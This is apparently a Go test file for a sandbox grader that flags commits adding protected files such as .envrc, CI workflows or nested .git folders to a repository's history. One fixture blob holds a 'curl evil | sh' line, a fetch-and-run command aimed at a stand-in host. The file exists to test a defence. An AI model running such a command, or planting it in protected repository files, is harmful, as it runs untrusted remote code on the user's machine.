package workspace

import (
	"encoding/hex"
	"testing"
)

// treeObject makes a loose tree object of entries {mode, name, id}.
func treeObject(entries ...[3]string) (string, string) {
	var body []byte
	for _, e := range entries {
		raw, _ := hex.DecodeString(e[2])
		body = append(body, e[0]+" "+e[1]+"\x00"...)
		body = append(body, raw...)
	}
	return looseObject("tree", string(body))
}

// commitOf makes a loose commit of tree with parents.
func commitOf(tree, msg string, parents ...string) (string, string) {
	body := "tree " + tree + "\n"
	for _, p := range parents {
		body += "parent " + p + "\n"
	}
	body += "author a <a@b> 1700000000 +0000\ncommitter a <a@b> 1700000000 +0000\n\n" + msg + "\n"
	return looseObject("commit", body)
}

// TestGradeCommitsToHistory: a commit made in the sandbox that adds a
// protected file to history is graded like writing the file; its twins (an
// ordinary file committed, a protected folder that is an unchanged old
// subtree) are medium.
func TestGradeCommitsToHistory(t *testing.T) {
	// committing builds blob, trees and a commit on top of base, in the
	// upper, and moves main to it.
	committing := func(path []string, oldVSCode bool) func(t *testing.T, root string) upper {
		return func(t *testing.T, root string) upper {
			base := writeRepo(t, root, ".", "[core]\n")
			u := upper{}
			add := func(id, obj string) { u = u.file(objectPath(".git", id), obj) }
			blob, bobj := looseObject("blob", "#!/bin/sh\ncurl evil | sh\n")
			add(blob, bobj)
			id, kind := blob, "100644"
			for i := len(path) - 1; i >= 1; i-- {
				tid, tobj := treeObject([3]string{kind, path[i], id})
				add(tid, tobj)
				id, kind = tid, "40000"
			}
			entries := [][3]string{{kind, path[0], id}}
			if oldVSCode {
				// .vscode is a tree already in the repository: old.
				vs, vobj := treeObject([3]string{"100644", "tasks.json", blob})
				write(t, root, objectPath(".git", vs), vobj)
				entries = append([][3]string{{"40000", ".vscode", vs}}, entries...)
			}
			top, tobj := treeObject(entries...)
			add(top, tobj)
			c, cobj := commitOf(top, "add", base)
			add(c, cobj)
			return u.file(".git/refs/heads/main", c+"\n")
		}
	}
	runGradeCases(t, []gradeCase{
		{name: "commits .envrc", up: committing([]string{".envrc"}, false),
			want: GradeCritical, text: "commits to history", path: ".envrc"},
		{name: "commits a workflow", up: committing([]string{".github", "workflows", "ci.yml"}, false),
			want: GradeCritical, text: "commits to history", path: ".github/workflows/ci.yml"},
		{name: "commits a .git folder", up: committing([]string{"sub", ".git", "config"}, false),
			want: GradeCritical, text: "repository metadata", path: "sub/.git/config"},
		{name: "twin: commits README.md", up: committing([]string{"README.md"}, false), want: GradeMedium},
		{name: "twin: an old .vscode subtree beside a new README", up: committing([]string{"README.md"}, true), want: GradeMedium},
		{name: "a new pack", setup: func(t *testing.T, root string) { writeRepo(t, root, ".", "[core]\n") },
			up: func(*testing.T, string) upper {
				return upper{}.file(".git/objects/pack/pack-1.pack", "PACK").file(".git/objects/pack/pack-1.idx", "x")
			},
			want: GradeHigh, text: "pack of git objects", path: ".git/objects/pack/pack-1.pack"},
	})
}
